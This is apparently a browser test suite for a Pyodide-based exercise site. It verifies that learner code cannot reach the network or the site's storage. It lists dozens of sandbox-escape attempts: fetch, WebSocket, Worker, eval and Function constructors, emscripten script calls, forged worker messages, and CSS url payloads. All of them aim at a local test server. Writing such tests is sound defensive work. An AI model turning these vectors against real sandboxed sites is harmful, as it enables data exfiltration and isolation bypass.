"""Whatever runs on a page reaches no network and nothing of the site's that is stored."""

from collections.abc import Iterator
from pathlib import Path

import pytest

from tests.site.desk import Desk
from tests.site.page_exercises.first_page import NO_EXERCISE, RIGHT
from tests.site.reader import Quiet, serving

pytestmark = pytest.mark.browser

# Each a way out, as somebody's code may try it; OUT is the address of another machine.
WAYS = {
    "fetch": "import js; js.fetch(OUT)",
    "an older request": """
import js
asked = js.XMLHttpRequest.new()
asked.open("GET", OUT, False)
asked.send()
""",
    "a socket of the web": "import js; js.WebSocket.new(OUT.replace('http', 'ws'))",
    "events": "import js; js.EventSource.new(OUT)",
    "a face of letters": "import js; js.FontFace.new('a', f'url({OUT})').load()",
    "another worker": "import js; js.Worker.new(OUT)",
    "scripts": "import js; js.importScripts(OUT)",
    "Pyodide's request": "from pyodide.http import open_url; open_url(OUT)",
    "Pyodide's packages": "import pyodide_js; pyodide_js.loadPackage(OUT + '/a.whl')",
    "Pyodide's libraries": "import pyodide_js; pyodide_js._module.loadDynamicLibrary(OUT)",
    "a lazy file": """
import pyodide_js
files = pyodide_js.FS
files.createLazyFile("/", "lazy", OUT, True, False)
open("/lazy").read()
""",
    "Python's sockets": """
import socket
host, port = OUT.removeprefix("http://").split("/")[0].split(":")
out = socket.create_connection((host, int(port)), timeout=1)
out.sendall(b"GET /out HTTP/1.0\\r\\n\\r\\n")
""",
    "Python's requests": "import urllib.request; urllib.request.urlopen(OUT)",
    "eval": "import js; js.eval(f'import(\"{OUT}\")')",
    "Pyodide's eval": "from pyodide.code import run_js; run_js(f'import(\"{OUT}\")')",
    "a function of text": "import js; js.Function.new(f'import(\"{OUT}\")')()",
    "any function's maker": "import js; js.Object.constructor.new(f'import(\"{OUT}\")')()",
    "an async function's maker": """
import js, pyodide_js
js.Object.getPrototypeOf(pyodide_js.runPythonAsync).constructor.new(f'import("{OUT}")')()
""",
    "a timer of text": "import js; js.setTimeout(f'import(\"{OUT}\")', 0)",
    "C's eval": """
import ctypes
ctypes.CDLL(None).emscripten_run_script(f'import("{OUT}")'.encode())
""",
    "a start that is forged": """
import js
from pyodide.ffi import to_js
to = lambda made: to_js(made, dict_converter=js.Object.fromEntries)
pack = {"url": OUT, "sha256": ""}
core = {"folder": OUT, "wasm": pack, "script": pack, "stdlib": pack, "first": []}
settings = {"pyodide": core, "numpy": pack, "bundle": pack, "chapters": {}, "cells": {}}
data = {"do": "start", "settings": settings, "chapter": "", "fresh": True}
js.dispatchEvent(js.MessageEvent.new("message", to({"data": data})))
""",
    "a chapter that is forged": """
import js
from pyodide.ffi import to_js
to = lambda made: to_js(made, dict_converter=js.Object.fromEntries)
js.Object.prototype.forged = to({"url": OUT})
data = {"do": "cell", "chapter": "forged", "cell": 1, "source": "", "passed": {}}
js.dispatchEvent(js.MessageEvent.new("message", to({"data": data})))
""",
    "the shelf of the service worker": """
import js
shelf = await js.caches.open("evil")
await shelf.put("/evil", js.Response.new("evil"))
""",
    "a database": "import js; js.indexedDB.open('evil')",
    "the site's files": "import js; await js.navigator.storage.getDirectory()",
    "messages to other pages": "import js; js.BroadcastChannel.new('evil')",
}
# In Python as it is there, with the loop that it has.
TRY = """
OUT = {out!r}
NAME = {name!r}
CODE = {code!r}
import ast, inspect
def softmax(scores, axis=-1):
    pass
try:
    made = eval(compile(CODE, "way", "exec", ast.PyCF_ALLOW_TOP_LEVEL_AWAIT), globals())
    if inspect.iscoroutine(made):
        made.send(None)
    print("went on")
except BaseException as error:
    print(type(error).__name__, error)
"""
LEFT = """
async () => {
  const databases = await indexedDB.databases();
  const names = [...(await caches.keys()), ...databases.map(({ name }) => name)];
  return names.filter((name) => name.includes("evil"));
}
"""


@pytest.fixture
def heard(tmp_path: Path) -> Iterator[tuple[str, list[str]]]:
    """Another machine that would answer anybody: its address, and what it was asked."""
    asked: list[str] = []

    class Answering(Quiet):
        def send_head(self) -> None:
            asked.append(self.path)
            self.send_response(200)
            self.send_header("Access-Control-Allow-Origin", "*")
            self.send_header("Content-Type", "text/javascript")
            self.send_header("Content-Length", "0")
            self.end_headers()

    with serving(tmp_path, Answering) as root:
        yield f"{root}/out", asked


@pytest.mark.slow
def test_no_way_leads_out_of_a_page(new_reader, heard):
    out, asked = heard
    reader = new_reader()
    desk = Desk(reader)
    for name, code in WAYS.items():
        desk.write(TRY.format(out=out, name=name, code=code.strip()))
        desk.press("Run")
        desk.section.and_(reader.page.locator('[aria-busy="false"]')).wait_for()
        reader.page.wait_for_timeout(200)
        assert not asked, f"{name}: {desk.said()}"
    assert reader.page.evaluate(LEFT) == []
    assert "right" in desk.check(RIGHT)  # Python is as it was


# What of a worker's global object is left to anybody's code.
LEFT_THERE = """
import js
wanted = "fetch caches indexedDB Worker eval Request Response navigator.storage"
print([name for name in wanted.split() if hasattr(js, name)])
"""


@pytest.mark.slow
def test_what_was_taken_away_is_gone(reader):
    said = Desk(reader).run(LEFT_THERE)
    assert "[]" in said


FETCHING = [
    "background: url(https://else.where/x)",
    "background: image-set('https://else.where/x' 1x)",
    "background: IMAGE-SET('https://else.where/x' 1x)",
    "background: -webkit-image-set(url(https://else.where/x) 1x)",
    "background: u\\72l(https://else.where/x)",
    "background: src('https://else.where/x')",
    "list-style: cross-fade('https://else.where/x', red)",
    "content: attr(x)",
]


def test_no_style_of_a_card_or_a_figure_fetches_anything(new_reader):
    reader = new_reader(NO_EXERCISE)
    asked: list[str] = []
    reader.context.on("request", lambda request: asked.append(request.url))
    left = reader.page.evaluate(
        """async ([folder, styles]) => {
          const { cardFrom } = await import(`${folder}/exercise-html.js`);
          const { drawingFrom } = await import(`${folder}/drawing.js`);
          return styles.filter((style) => {
            const card = document.createElement("div");
            card.setAttribute("style", style);
            const svg = document.createElementNS("http://www.w3.org/2000/svg", "svg");
            svg.setAttribute("style", style);
            svg.setAttribute("fill", style.split(": ")[1]);
            const drawn = new XMLSerializer().serializeToString(svg);
            const made = [cardFrom(card.outerHTML), drawingFrom(drawn)];
            document.body.append(...made);
            return made.some((each) => each.outerHTML.includes("style="));
          });
        }""",
        [f"{reader.address}/_static/exercises", FETCHING],
    )
    reader.page.wait_for_timeout(100)
    assert left == []
    assert not [url for url in asked if "else.where" in url]


def test_what_a_figure_and_a_card_need_comes_through(new_reader):
    reader = new_reader(NO_EXERCISE)
    styles = [
        "color: rgb(0, 0, 0)",
        "fill: color-mix(in srgb, var(--ink) 40%, white)",
        "margin: calc(1px + 2px)",
        "transform: translate(1px, 2px)",
    ]
    module = f"{reader.address}/_static/exercises/drawing.js"
    assert (
        reader.page.evaluate(
            "async ([module, all]) => all.map((await import(module)).isHarmless)",
            [module, [*styles, "url(#arrow)", "matrix(1 0 0 1 2 3)", "M 0 0 L 1 1"]],
        )
        == [True] * 7
    )
